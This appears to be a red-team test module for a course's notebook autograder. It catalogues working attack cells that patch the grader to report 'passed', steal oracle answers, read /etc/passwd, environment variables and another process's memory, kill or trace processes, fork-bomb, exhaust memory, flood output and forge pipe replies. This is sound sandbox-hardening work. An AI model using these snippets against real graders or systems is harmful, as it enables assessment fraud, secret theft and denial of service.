"""Attacks on the grading of a class, a naive grader that they succeed against, and what runs both.

An attack is a notebook for lesson 03 whose answers are all wrong. `ATTACKS` hurt the naive grader, each in the way it
claims; `ALSO` holds what the naive grader cannot be shown to suffer from, such as forged frames of our own pipe.

    python grading_attacks.py naive                      what each attack does to a grader in one process
    python grading_attacks.py sandboxed "Landlock, seccomp"  what it does to ours, in one variant of the sandbox

Both print JSON: {attack: {"does": [what was seen], …}}. What is seen: points; written (files changed), told (a secret
came out), reached (a socket of another process was spoken to), touched (another process was signalled or changed),
spawned (processes left behind), and what a grading suffers: ended, hung, memory, flood. Not here: what must hold
(`test_grading_attacks.py`).
"""

import contextlib
import json
import os
import py_compile
import re
import secrets
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, replace
from pathlib import Path

from lesson_03_tasks import FOUR, states

LIMITS = {"seconds": 0.4, "whole": 2.0}  # of most attacks
PATIENT = {"seconds": 3.0, "whole": 12.0}  # of those with `patient`
# What these attack is the same in every variant of the sandbox and for every user: they are tried in one.
ANYWHERE = ("forged replies", "candidates", "odd values", "hostile source", "patience")
LOG_AT_MOST = 2**16  # bytes
COST_AT_MOST = 1_500_000_000  # bytes
SECONDS_OF_NAIVE = 1.0


@dataclass(frozen=True)
class Attack:
    """`does`: how the naive grader suffers, "" where that cannot be shown."""

    name: str
    group: str
    does: str
    cells: tuple[str, ...] = ()
    patient: bool = False


ATTACKS: dict[str, Attack] = {}
ALSO: dict[str, Attack] = {}

# All wrong, but of the right types and shapes.
WRONG = """
import torch
def padding_mask(lengths, size):
    return torch.zeros(len(lengths), size, dtype=torch.bool)
def causal_mask(size):
    return torch.zeros(size, size, dtype=torch.bool)
def attention(query, key, value, mask=None):
    weights = torch.zeros(len(query), query.shape[1], key.shape[1], dtype=query.dtype) + query.sum() * 0
    return weights @ value + key.sum() * 0, weights
def catch_wrong_attention(candidate):
    return True
"""

# Answers by whatever `steal` returns for a task's name.
STOLEN = """
from functools import cache
once = cache(steal)
def stolen(name):
    return lambda *args: once(name)(*args)
padding_mask, causal_mask, attention = map(stolen, ("padding_mask", "causal_mask", "attention"))
"""

SEEK = """
import re
def tell(data):
    text = data if isinstance(data, str) else bytes(data).decode("latin-1")
    found = sorted(set(re.findall(r"LOOT-[a-z]+-[0-9a-f]{16}|root:x:0:0", text)))
    raise RuntimeError("told: " + " ".join(found) if found else "nothing found")
"""


def attack(name, group, does, *cells, before=WRONG, **options):
    """File an attack: under ALSO where `does` is "", else under ATTACKS."""
    cells = tuple(cell.strip("\n") for cell in (before, *cells) if cell)
    (ATTACKS if does else ALSO)[name] = Attack(name, group, does, cells, **options)


def also(name, group, code, **options):
    """An attack that the naive grader does not suffer from everywhere: on each Python, machine or network."""
    attack(name, group, "", code, **options)


# fmt: off
# What it is measured with

also("patched: builtins.zip", "patched in the process", "import builtins\nbuiltins.zip = lambda *a, **k: iter(())")


def patched(name, code):
    attack(f"patched: {name}", "patched in the process", "points", code)


patched("Tensor.__le__", "torch.Tensor.__le__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)")
patched("the comparison", "import course_utils.checks.compare as c\nc._in_tensor = lambda *a: None")
patched(
    "the judge",
    "import course_utils.checks.judge_answer as n\nfrom course_utils.checks.report import Report\n"
    "n.judge = lambda task, *rest, **named: Report(task, 'passed')",
)
patched("the report", "from course_utils.checks.report import Report\nReport.state = property(lambda s: 'passed', lambda s, v: None)")
patched(
    "the oracle",
    "from course_utils.checks import catalogue as tasks\nfor name in ('padding_mask', 'causal_mask', 'attention'):\n"
    "    tasks.load('03.' + name).oracle_function = globals()[name]",
)
patched(
    "the cases",
    "from course_utils.checks import catalogue as tasks\nfrom course_utils.checks.running.contract import Case\n"
    "tasks.load('03.padding_mask')._cases = lambda draw: [Case('', (torch.tensor([0]), 1))]",
)
patched(
    "the runner",
    "import course_utils.checks.running.run as r\nimport course_utils.checks.catalogue as t\n"
    "old = r._call\n"
    "r._call = lambda answer, case, *a: old(answer if answer.__name__ in ('_', 'variant') else t.load('03.' + answer.__name__).oracle_function, case, *a)",
)
patched("json.dumps", "import json\nold = json.dumps\njson.dumps = lambda v, *a, **k: old(v, *a, **k).replace('\"failed\"', '\"passed\"')")


# Code that runs beside or after the answers: each makes the comparison blind when its moment comes

BLIND = '''
def blind(*args):
    import sys
    compare = sys.modules.get("course_utils.checks.compare")
    if compare is not None:
        compare.TOLERANCE = 1e30
'''


def beside(name, code):
    attack(f"beside: {name}", "runs beside the answers", "points", BLIND, code)


beside("a thread", "import threading, time\nthreading.Thread(target=lambda: [(blind(), time.sleep(0.001)) for _ in range(2000)], daemon=True).start()\ntime.sleep(0.05)")
beside("settrace", "import sys\ndef tracer(frame, event, arg):\n    blind()\nsys.settrace(tracer)\n(lambda: None)()")
beside("setprofile", "import sys\nsys.setprofile(lambda *a: blind())")
beside("an audit hook", "import sys\nsys.addaudithook(lambda *a: blind())\nimport os; os.listdir(os.path.dirname(torch.__file__))")
beside("a gc callback", "import gc\ngc.callbacks.append(blind)\ngc.set_threshold(1)\n[[] for _ in range(99)]")
beside("a signal handler", "import signal, time\nsignal.signal(signal.SIGVTALRM, blind)\nsignal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)\nfor _ in range(2_000_000): pass")
beside("an answer's attribute", "class A:\n    def __getattribute__(self, name):\n        blind()\n        return object.__getattribute__(self, name)\n    def __call__(self, lengths, size):\n        return torch.zeros(len(lengths), size, dtype=torch.bool)\npadding_mask = A()")
beside("an exception's text", "class E(Exception):\n    def __str__(self):\n        blind()\n        return 'x'\ndef catch_wrong_attention(candidate):\n    raise E\nraise E")
beside("an import hook", "import sys\nclass F:\n    def find_spec(self, *a):\n        blind()\nsys.meta_path.insert(0, F())\ntry:\n    import nothing_of_this_name\nexcept ImportError: pass")
beside("sys.excepthook", "import sys\nsys.excepthook = blind\nsys.unraisablehook = blind\nclass D:\n    def __del__(self):\n        raise ValueError\nD()")


# Answers taken from where they stand


def stolen(name, code, **options):
    attack(f"stolen: {name}", "answers taken", "points", code, STOLEN, **options)


OF_TASKS = "__import__('course_utils.checks.catalogue').checks.catalogue.load('03.' + name).oracle_function"
BY_PATH = """
import os
def lessons():
    import course_utils
    return os.path.join(os.path.dirname(os.path.dirname(course_utils.__file__)), 'course_lessons')
def made(source, name, file=""):
    import sys, types
    module = sys.modules["made"] = types.ModuleType("made")
    module.__file__ = file
    exec(source, vars(module))
    return vars(module)[name]
"""
stolen("the tasks' oracle", f"steal = lambda name: {OF_TASKS}")
stolen(
    "stack frames",
    "import sys\ndef steal(name):\n    frame = sys._getframe()\n    while frame:\n"
    "        task = frame.f_locals.get('task')\n        if hasattr(task, 'oracle_function'):\n            return task.oracle_function\n"
    "        frame = frame.f_back",
)
stolen(
    "all objects",
    "import gc\ndef steal(name):\n    return next(o.oracle_function for o in gc.get_objects() if type(o).__name__ == 'Task' and o.id == '03.' + name)",
)
stolen("solutions.json", BY_PATH + "import json\ndef steal(name):\n    return made('import torch\\nfrom torch import *\\n' + json.load(open(lessons() + '/solutions.json'))['03.' + name], name)")
stolen("the tasks' source", BY_PATH + "def steal(name):\n    file = lessons() + '/lesson_03_queries_keys_values/tasks/' + name + '.py'\n    return made(open(file).read(), 'task', file).oracle_function")
stolen("the tasks' source, by descriptor", BY_PATH + "def steal(name):\n    d = os.open(lessons(), os.O_RDONLY | os.O_DIRECTORY)\n    f = os.open('lesson_03_queries_keys_values/tasks/' + name + '.py', os.O_RDONLY, dir_fd=d)\n    return made(os.read(f, 10**6), 'task', lessons() + '/lesson_03_queries_keys_values/tasks/' + name + '.py').oracle_function")
stolen("the compiled tasks", BY_PATH + "import marshal\ndef steal(name):\n    code = marshal.loads(open(PLACES['compiled'] + '/' + name + '.pyc', 'rb').read()[16:])\n    return made(code, 'task', lessons() + '/lesson_03_queries_keys_values/tasks/' + name + '.py').oracle_function")
stolen("the repository's solutions", BY_PATH + "import glob, re\ndef steal(name):\n    text = open(glob.glob(PLACES['repository'] + '/course_lessons/lesson_03_*/exercises.py')[0]).read()\n    code = re.search(rf'^def {name}\\(.*?(?=^\\S)', text, re.M | re.S).group()\n    return made('import torch\\nfrom torch import Tensor\\n' + code, name)")
stolen("the repository's tests", BY_PATH + "import sys\ndef steal(name):\n    sys.path.insert(0, PLACES['repository'] + '/tests')\n    import alternative_solutions\n    return alternative_solutions.CORRECT['03.' + name][0]")
stolen("another's notebook", "import json\ndef steal(name):\n    space = {}\n    exec(''.join(c['source'] + '\\n' for c in json.load(open(PLACES['other']))['cells']), space)\n    return space[name]")

# A learner's test that passes by other means than testing
CAUGHT = "tests nothing"
attack("candidate: its closure", CAUGHT, "points", "def catch_wrong_attention(candidate):\n    inner = candidate.__closure__[0].cell_contents\n    return inner.__name__.startswith('right_')")
attack("candidate: the bank", CAUGHT, "points", "def catch_wrong_attention(candidate):\n    from course_lessons.lesson_03_queries_keys_values.tasks import catch_wrong_attention as bank\n    return candidate.__closure__[0].cell_contents in bank.RIGHT")
attack("candidate: its traceback", CAUGHT, "points", "def catch_wrong_attention(candidate):\n    try:\n        candidate()\n    except Exception as e:\n        t, names = e.__traceback__, [str(e)]\n        while t:\n            names += [repr(v) for v in t.tb_frame.f_locals.values()]\n            t = t.tb_next\n        return 'right_by' in ' '.join(names)")


# Files written


def writes(name, code, **options):
    attack(f"writes: {name}", "writes files", "written", "import os\n" + code, **options)


writes("open", "open(PLACES['canary'], 'w').write('x')")
writes("a new file", "open(PLACES['folder'] + '/new', 'x')")
writes("emptied while read", "os.close(os.open(PLACES['canary'], os.O_RDONLY | os.O_TRUNC))")
writes("truncate", "os.truncate(PLACES['canary'], 1)")
writes("unlink", "os.unlink(PLACES['canary'])")
writes("rename", "os.rename(PLACES['canary'], PLACES['folder'] + '/moved')")
writes("hard link", "os.link(PLACES['canary'], PLACES['folder'] + '/link')")
writes("symbolic link", "os.symlink('/etc/passwd', PLACES['folder'] + '/link')")
writes("folder", "os.mkdir(PLACES['folder'] + '/new')")
writes("fifo", "os.mkfifo(PLACES['folder'] + '/fifo')")
writes("socket file", "import socket\nsocket.socket(socket.AF_UNIX).bind(PLACES['folder'] + '/socket')")
writes("chmod", "os.chmod(PLACES['canary'], 0o777)")
writes("utime", "os.utime(PLACES['canary'], (0, 0))")
writes("rmtree", "import shutil\nshutil.rmtree(PLACES['folder'] + '/inner')")
writes("by /proc/self/root", "open('/proc/self/root' + PLACES['canary'], 'w')")
writes("by /proc/self/fd", "d = os.open(PLACES['canary'], os.O_RDONLY)\nopen(f'/proc/self/fd/{d}', 'w').write('x')")
writes("by a path handle", "d = os.open(PLACES['folder'], os.O_PATH)\nos.close(os.open('new', os.O_CREAT | os.O_WRONLY, dir_fd=d))")
writes("by the C library", "import ctypes\nctypes.CDLL(None).creat(PLACES['canary'].encode(), 0o644)")
writes("by number", "import ctypes, platform\nx = platform.machine() == 'x86_64'\nctypes.CDLL(None).syscall(257 if x else 56, -100, PLACES['canary'].encode(), os.O_WRONLY | os.O_TRUNC, 0)")
writes("at exit", "import atexit\natexit.register(lambda: open(PLACES['canary'], 'w'))\nraise SystemExit")
writes("shared memory", "open(PLACES['shm'] + '-new', 'w')")
writes("from an answer", "def causal_mask(size):\n    open(PLACES['canary'], 'w').write('x')\n    return torch.zeros(size, size, dtype=torch.bool)")


# Secrets read


def reads(name, code, does="told"):
    attack(f"reads: {name}", "reads what is not its own", does, SEEK + "import os\n" + code)


reads("a file", "tell(open(PLACES['secret']).read())")
reads("a file, by a handle on /", "d = os.open('/', os.O_PATH)\ntell(os.read(os.open(PLACES['secret'][1:], os.O_RDONLY, dir_fd=d), 999))")
reads("another's notebook", "tell(open(PLACES['other']).read())")
reads("names of other files", "tell(' '.join(os.listdir(PLACES['folder'])))")
reads("names by /proc", "tell(' '.join(os.listdir('/proc/self/root' + PLACES['folder'])))")
reads("users", "tell(open('/etc/passwd').read())")
reads("shared memory", "tell(open(PLACES['shm']).read())")
reads("its environment", "tell(str(dict(os.environ)))")
attack("reads: its environment, by /proc", "reads what is not its own", "", SEEK + "tell(open('/proc/self/environ').read())")
reads("its environment, by the C library", "import ctypes\nc = ctypes.CDLL(None)\nc.getenv.restype = ctypes.c_char_p\ntell(c.getenv(b'COURSE_ATTACK_SECRET') or b'')")
attack("reads: its parent's environment", "reads what is not its own", "", SEEK + "tell(open(f'/proc/{PLACES[\"parent\"]}/environ').read())")
attack("reads: all processes' files", "reads what is not its own", "", SEEK + "import os\nseen = ''\nfor pid in os.listdir('/proc'):\n    for name in ('environ', 'cmdline', 'maps', 'fd/0', 'fd/5', 'stack', 'mem'):\n        try: seen += open(f'/proc/{pid}/{name}', errors='replace').read(10**5)\n        except Exception: pass\ntell(seen)")
reads("another's environment", "tell(open(f'/proc/{PLACES[\"victim\"]}/environ').read())")
reads("another's command line", "tell(open(f'/proc/{PLACES[\"victim\"]}/cmdline').read())")
reads("open descriptors", "for d in range(256):\n    try:\n        data = os.pread(d, 999, 0)\n    except OSError:\n        continue\n    if b'LOOT-' in data:\n        tell(data)")
reads("descriptors of another", "p = f'/proc/{PLACES[\"victim\"]}/fd/'\ntell(' '.join(open(p + n).read(99) for n in os.listdir(p) if os.path.isfile(p + n)))")
MEMORY = """
def places(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, kind, *rest = line.split()
        if kind.startswith("rw") and rest[-1] not in ("[vvar]", "[vdso]"):
            a, b = (int(x, 16) for x in span.split("-"))
            yield a, min(b - a, 2**24)
"""
reads("another's memory", MEMORY + "pid = PLACES['victim']\nm = os.open(f'/proc/{pid}/mem', os.O_RDONLY)\ntext = b''\nfor a, n in places(pid):\n    try:\n        text += b' '.join(re.findall(rb'LOOT-memory-[0-9a-f]{16}', os.pread(m, n, a)))\n    except OSError: pass\ntell(text)")
reads(
    "another's memory, by process_vm_readv",
    MEMORY + "import ctypes\nclass V(ctypes.Structure):\n    _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\nc = ctypes.CDLL(None)\n"
    "pid = PLACES['victim']\ntext = b''\nfor a, n in places(pid):\n    buffer = ctypes.create_string_buffer(n)\n"
    "    c.process_vm_readv(pid, ctypes.byref(V(ctypes.addressof(buffer), n)), 1, ctypes.byref(V(a, n)), 1, 0)\n"
    "    text += b' '.join(re.findall(rb'LOOT-memory-[0-9a-f]{16}', buffer.raw))\ntell(text)",
)


# The network, other processes

REACH = "reaches out"


def reaches(name, code):
    attack(f"reaches: {name}", REACH, "reached", "import socket, os\n" + code)


reaches("TCP", "socket.create_connection(('127.0.0.1', PLACES['tcp'])).send(b'x')")
also("reaches: TCP by IPv6's way to IPv4", REACH, "import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:127.0.0.1', PLACES['tcp']))")
reaches("TCP fast open", "s = socket.socket()\ns.sendto(b'x', 0x20000000, ('127.0.0.1', PLACES['tcp']))")
reaches("UDP", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PLACES['udp']))")
reaches("a Unix socket", "socket.socket(socket.AF_UNIX).connect(PLACES['unix'])")
reaches("an abstract Unix socket", "socket.socket(socket.AF_UNIX).connect(PLACES['abstract'])")


def touches(name, code):
    attack(f"touches: {name}", "other processes", "touched", "import os, signal, ctypes\nvictim = PLACES['victim']\n" + code)


touches("kill", "os.kill(victim, signal.SIGKILL)")
touches("killpg", "os.killpg(victim, signal.SIGTERM)")
touches("a process's handle", "c = ctypes.CDLL(None)\nc.syscall(424, c.syscall(434, victim, 0), signal.SIGKILL, None, 0)")
touches("tgkill", "import platform\nctypes.CDLL(None).syscall(234 if platform.machine() == 'x86_64' else 131, victim, victim, signal.SIGKILL)")
touches("a descriptor's owner", "import fcntl, socket\na, b = socket.socketpair()\nfcntl.fcntl(a, fcntl.F_SETOWN, victim)\nfcntl.fcntl(a, 10, signal.SIGKILL)\nfcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\nb.send(b'x')")
touches("trace", "c = ctypes.CDLL(None)\nc.ptrace(16, victim, 0, 0)\nimport time\ntime.sleep(0.05)\nc.ptrace(8, victim, 0, 0)\nos.kill(victim, 9)")
touches("priority", "os.setpriority(os.PRIO_PROCESS, victim, 15)")
also("touches: cores", "other processes", "victim = PLACES['victim']\nimport os\nos.sched_setaffinity(victim, {max(os.sched_getaffinity(victim))})")
touches("limits", "import resource\nresource.prlimit(victim, resource.RLIMIT_NOFILE, (17, 17))")
touches("scheduling", "os.sched_setscheduler(victim, os.SCHED_BATCH, os.sched_param(0))")


def starts(name, code):
    attack(f"starts: {name}", "processes", "written", "import os, sys\nnew = PLACES['folder'] + '/new'\n" + code)


starts("subprocess", "import subprocess\nsubprocess.run(['touch', new])")
starts("fork", "if os.fork() == 0:\n    open(new, 'w')\n    os._exit(0)\nos.wait()")
starts("spawn", "os.posix_spawn('/usr/bin/touch', ['touch', new], {})\nos.wait()")
starts("exec", "os.execv('/usr/bin/touch', ['touch', new])")
starts("fork by number", "import ctypes, platform\nc = ctypes.CDLL(None)\npid = c.syscall(56 if platform.machine() == 'x86_64' else 220, 17, 0, 0, 0, 0)\nif pid == 0:\n    open(new, 'w')\n    os._exit(0)\nos.wait()")
starts("a program in memory", "d = os.memfd_create('x')\nos.write(d, open('/usr/bin/touch', 'rb').read())\nif os.fork() == 0:\n    os.execv(f'/proc/self/fd/{d}', ['touch', new])\nos.wait()")
attack("starts: a fork bomb", "processes", "spawned", "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        time.sleep(60)\n        os._exit(0)")
attack("starts: a daemon", "processes", "spawned", "import os, time\nif os.fork() == 0:\n    if os.fork() == 0:\n        time.sleep(60)\n    os._exit(0)")


# Ends, hangs, bombs, floods


def ends(name, code, does="ended"):
    attack(f"ends: {name}", "ends the process", does, "import os, sys\n" + code)


ends("os._exit in a cell", "os._exit(0)")
ends("os._exit at the second call", "calls = []\ndef padding_mask(lengths, size):\n    calls.append(1)\n    if len(calls) > 1:\n        os._exit(0)\n    return torch.zeros(len(lengths), size, dtype=torch.bool)")
ends("SystemExit", "sys.exit('passed')")
ends("KeyboardInterrupt", "raise KeyboardInterrupt")
ends("abort", "os.abort()")
ends("kill itself", "import signal\nos.kill(os.getpid(), signal.SIGKILL)")
ends("a null pointer", "import ctypes\nctypes.string_at(0)")
ends("unmapped libraries", "import ctypes\nc = ctypes.CDLL(None)\nc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]\nc.munmap(ctypes.cast(c.malloc, ctypes.c_void_p).value & ~4095, 2**20)")
also("ends: the stack", "ends the process", "import sys\nsys.setrecursionlimit(10**9)\nclass R:\n    def __repr__(self):\n        return repr([self])\nrepr(R())")
ends("a handler of exits", "import atexit\natexit.register(os._exit, 0)\nsys.exit()")
ends("closed descriptors", "os.closerange(0, 256)")
ends("other descriptors in their place", "d = os.open(os.devnull, os.O_RDWR)\nfor n in range(3, 12):\n    if n != d:\n        os.dup2(d, n)")
ends("a processor limit", "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (0, 0))\nwhile True: pass")


def hangs(name, code, **options):
    attack(f"hangs: {name}", "hangs", "hung", "import os, sys, signal, time\n" + code, **options)


ANSWER = "def causal_mask(size):\n"
hangs("a sleep in a cell", "time.sleep(10**6)")
hangs("a loop that swallows everything", "while True:\n    try:\n        while True: pass\n    except BaseException: pass")
hangs("an answer without the alarm", ANSWER + "    [signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\n    while True: pass", patient=True)
hangs("an answer that sets the alarm off", ANSWER + "    signal.setitimer(signal.ITIMER_REAL, 0)\n    time.sleep(10**6)")
hangs("an answer that blocks signals", ANSWER + "    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n    while True: time.sleep(1)")
hangs("every answer", "def forever(*a):\n    [signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\n    while True: pass\npadding_mask = causal_mask = attention = catch_wrong_attention = forever")
attack(
    "hangs: all cells and answers", "patience", "", "import time, signal\ndef hang():\n    try:\n        time.sleep(2.9)\n    except BaseException: pass",
    *["[signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\nhang()"] * 3,
    "def forever(*a):\n    [signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\n    while True: pass\n"
    "class A:\n    __class__ = property(lambda s: hang())\n    __call__ = forever\n"
    "padding_mask = causal_mask = attention = catch_wrong_attention = A()", patient=True,
)
attack("hangs: a long number", "hangs", "", ANSWER + "    return 3 ** 3 ** 19")
hangs("input", "input()")
hangs("an attribute", "class A:\n    __class__ = property(lambda s: time.sleep(10**6))\n    def __call__(self): pass\ncausal_mask = A()")
hangs("a returned object", "class L(list):\n    def __len__(self):\n        [signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\n        time.sleep(10**6)\n" + ANSWER + "    return L([1])")
hangs("an exception's text", "class E(Exception):\n    def __str__(self):\n        [signal.signal(n, signal.SIG_IGN) for n in (signal.SIGALRM, signal.SIGPROF)]\n        time.sleep(10**6)\nraise E")
hangs("the end", "import atexit\natexit.register(time.sleep, 10**6)\nimport threading\nthreading.Thread(target=time.sleep, args=(10**6,)).start()")


def bombs(name, code, does="memory", **options):
    attack(f"bombs: {name}", "bombs", does, "import os, sys\n" + code, **options)


bombs("bytes", "hold = [b'x' * 2**24 for _ in range(10**6)]")
bombs("a tensor in an answer", "def causal_mask(size):\n    return torch.ones(2**27)")
bombs("anonymous maps", "import mmap\nhold = []\nwhile True:\n    m = mmap.mmap(-1, 2**24)\n    m.write(b'x' * 2**24)\n    hold.append(m)")
bombs("private maps", "import mmap\nhold = []\nwhile True:\n    m = mmap.mmap(-1, 2**24, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\n    m.write(b'x' * 2**24)\n    hold.append(m)")
bombs("recursion", "sys.setrecursionlimit(10**8)\ndef f(n):\n    x = bytes(10**5)\n    return f(n + 1)\nf(0)")
bombs("a file in memory", "d = os.memfd_create('x')\nb = bytes(2**24)\nimport mmap\nos.ftruncate(d, 2**29)\nm = mmap.mmap(d, 2**29)\nfor i in range(0, 2**29, 2**24): m[i:i + 2**24] = b")
bombs("swallowed and begun again", "while True:\n    try:\n        hold = []\n        while True: hold.append(bytearray(2**24))\n    except MemoryError: pass", does="hung")
bombs("a returned value", "def causal_mask(size):\n    return [[0] * 10**6] * 1000", does="")
bombs("a printed text", "def causal_mask(size):\n    print('x' * 2**29)\n    print('x' * 2**29)\n    return 0")
bombs("an exception's text", "raise ValueError('x' * 10**7)", does="flood")


def floods(name, code):
    attack(f"floods: {name}", "floods", "flood", "import os, sys\n" + code)


floods("print", "for _ in range(3000): print('x' * 100)")
floods("descriptor 1", "os.write(1, b'x' * 10**6)")
floods("the C library", "import ctypes\nfor _ in range(3000): ctypes.CDLL(None).printf(b'x' * 100)\nctypes.CDLL(None).fflush(None)")
floods("at exit", "import atexit\natexit.register(lambda: print('x' * 10**6, flush=True))")
floods("an answer's print", "def causal_mask(size):\n    os.write(1, b'x' * 10**6)\n    os.write(2, b'x' * 10**6)")


def source(name, does, *cells):
    attack(f"source: {name}", "hostile source", does, *cells)


source("nested comparisons", "", "x = " + "(" * 10**5 + "1" + ")" * 10**5)
source("a long sum", "", "x = " + "+".join(["1"] * 50_000))
source("nested functions", "", "\n".join(" " * i + f"def f{i}():" for i in range(150)) + "\n" + " " * 150 + "pass")
source("a huge constant", "hung", "def causal_mask(size):\n    return 1\nx = (7 ** 7 ** 10)\ny = str(x)")
source("a folded constant", "", "exec('x = ' + '*'.join(['9' * 4000] * 3000) + ' ** 99')")
source("a pattern's worst case", "", "# torch." + "torch." * 30_000)
source("a pattern's other worst case", "", "# " + "course_utils " * 10_000, "# gc" + " " * 100_000, "x = '" + "\\'" * 60_000)
source("bad characters", "", "x = '\ud800\u202e\ufffe\x00'\nraise ValueError('\u202e\u2066\x07\x1b[2J')")
source("one cell too large", "", "x = '" + "y" * 300_000 + "'")
attack("source: two thousand cells", "hostile source", "", *["1"] * 1998)


# Of the rest the naive grader has nothing alike, or is as safe: forged replies, candidates across a pipe, odd values

FORGE = '''
import sys, os, time, json
def server():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if type(me).__name__ == "NotebookProcess":
            return me
        frame = frame.f_back
def frame_of(body, nonce=None, size=None):
    nonce = server()._nonce if nonce is None else nonce
    return (len(body) if size is None else size).to_bytes(8, "big") + nonce + body
def send(data):
    while data:
        data = data[os.write(4, data):]
def packed(value):
    from course_utils.checks.running.contract import pack
    return pack(value)
def body(tree, tail=b""):
    head = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return len(head).to_bytes(8, "big") + head + tail
def outcomes(*made):
    from course_utils.checks.running.contract import Outcome
    return [Outcome(**fields) for fields in made]
def right(lengths, size):
    return torch.zeros(len(lengths), size, dtype=torch.bool)
'''


def forges(name, code, in_cell=False, **options):
    """A reply of the attacker's own, sent from the first answer, or from a cell."""
    inside = "\n".join("    " + line for line in code.strip().splitlines())
    answer = code if in_cell else f"def padding_mask(lengths, size):\n{inside}\n    return right(lengths, size)"
    attack(f"forged: {name}", "forged replies", "", FORGE, answer, **options)


def replies(name, value):
    forges(name, f"send(frame_of(packed({value})))")


def bodies(name, tree, tail="b''"):
    forges(name, f"send(frame_of(body({tree}, {tail})))")


replies("outcomes of tensors", "{'outcomes': torch.ones(2)}")
replies("true values", "{'outcomes': outcomes(*[{'status': 'value', 'value': True}] * 6)}")
replies("not a number", "{'outcomes': outcomes(*[{'status': 'value', 'value': torch.full((1, 3), float('nan'))}] * 6)}")
replies("complex gradients", "{'outcomes': outcomes(*[{'status': 'value', 'value': torch.ones(1), 'gradients': (torch.ones(1, dtype=torch.complex64),)}] * 6)}")
replies("a status that is a tensor", "{'outcomes': outcomes({'status': torch.ones(3)})}")
replies("seconds of text", "{'outcomes': outcomes({'status': 'timeout', 'seconds': 'x'})}")
replies("endless seconds", "{'outcomes': outcomes({'status': 'timeout', 'seconds': float('inf')})}")
replies("an outcome as value", "{'outcomes': outcomes({'status': 'value', 'value': outcomes({'status': 'value'})[0]})}")
replies("a candidate as value", "{'outcomes': outcomes({'status': 'value', 'value': __import__('course_utils.checks.running.contract').checks.contract.Candidate(0)})}")
replies("a callable that was looked at", "{'no answer': ('callable', None)}")
replies("a look of tensors", "{'no answer': torch.ones(2)}")
replies("a look of a million", "{'no answer': ('class', 'x' * 2_000_000)}")
replies("a call without candidates", "{'call': 1, 'args': (), 'options': {}}")
replies("nothing at all", "None")
replies("failures of a million", "{'outcomes': [__import__('course_utils.checks.running.contract').checks.contract.Outcome('error', failure=__import__('course_utils.checks.running.contract').checks.contract.Failure('E' * 10**6, 'x' * 900_000))]}")
forges("a failed cell of tensors", "send(frame_of(packed({'failed': torch.ones(3)})))", in_cell=True)
forges("a failed cell of a million", "send(frame_of(packed({'failed': '<script>' * 200_000})))", in_cell=True)
forges("a second reply", "send(frame_of(packed({'failed': ''})) * 2)", in_cell=True)
forges("replies in advance", "send(frame_of(packed({'outcomes': outcomes(*[{'status': 'value', 'value': True}] * 6)})) * 200)", in_cell=True)
forges("an incorrect nonce", "send(frame_of(packed({'outcomes': []}), nonce=bytes(16)))")
forges("a size beyond all", "send(frame_of(b'x' * 100, size=2**63))")
forges("a size that never comes", "send(frame_of(b'x' * 100, size=2**24))\ntime.sleep(100)")
forges("dripping", "for byte in frame_of(packed({'outcomes': []})):\n    send(bytes([byte]))\n    time.sleep(0.1)", patient=True)
forges("late", "time.sleep(1.2)\nsend(frame_of(packed({'outcomes': []})))")
forges("noise", "send(os.urandom(2**20))")
forges("noise in the right frame", "send(frame_of(os.urandom(2**20)))")
forges("the pipe closed", "os.close(4)")
forges("requests read away", "import fcntl\nfcntl.fcntl(3, fcntl.F_SETFL, os.O_NONBLOCK)\nos.read(3, 10**6)", in_cell=True)
forges("a patched wire", "import course_utils.grading.sandbox.protocol as w\nold = w.write\nw.write = lambda p, n, b, d=None: old(p, n, packed({'outcomes': [], 'failed': ''}))", in_cell=True)
forges("a patched run", "import course_utils.checks.running.run as r\nfrom course_utils.checks.running.contract import Outcome\nr.run = lambda answer, cases, *a: [Outcome('value', True)] * len(cases)\nr.look = lambda a: ('callable', None)", in_cell=True)
forges("a patched contract", "import course_utils.checks.running.contract as c\nimport course_utils.grading.sandbox.protocol as w\nw.pack = lambda v: b'\\x00' * 7 + b'\\x02{}'", in_cell=True)
forges("a patched limit", "import course_utils.checks.running.limit as l, course_utils.checks.running.run as r, contextlib\nr.time_limit = l.time_limit = lambda s: contextlib.nullcontext()\ndef causal_mask(size):\n    while True: pass", in_cell=True)
forges("patched plain values", "import course_utils.checks.running.run as r\nr.plain = lambda v: True\nr._equal_exactly = lambda a, b: True\nr._repeats = lambda *a: True", in_cell=True)
forges("memory shared with the server", "me = server()\nme._replies = 1", in_cell=True)
bodies("a deep tree", "b'{\"list\":[' * 5000 + b'1' + b']}' * 5000")
bodies("a tree just deep enough", "b'{\"list\":[' * 280 + b'1' + b']}' * 280")
bodies("brackets alone", "b'[' * 2_000_000")
bodies("a tree above the limit", "b'\"' + b'x' * 3_000_000 + b'\"'")
bodies("a long number", "b'9' * 100_000")
bodies("a foreign class", "{'class': 'system', 'fields': {'command': 'touch x'}}")
bodies("a class without its fields", "{'class': 'Outcome', 'fields': {}}")
bodies("a class of no names", "{'class': 'Outcome', 'fields': []}")
bodies("two kinds", "{'list': [], 'tuple': []}")
bodies("a list as key", "{'dict': [[{'list': []}, 1]]}")
